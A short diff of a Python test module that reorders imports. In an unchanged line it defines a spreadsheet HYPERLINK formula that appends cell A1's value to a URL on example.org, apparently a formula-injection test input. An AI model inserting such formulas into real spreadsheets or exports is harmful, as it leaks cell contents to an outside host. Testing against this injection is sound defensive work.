@@ -9,8 +9,8 @@ from pathlib import Path
 
 import pytest
 
-from command_line import Call
-from consilience.visible import visible
+from consilience.errors import visible
+from helpers.command_line import Call
 
 FORMULA = '=HYPERLINK("http://example.org/?"&A1;"ill")'
 
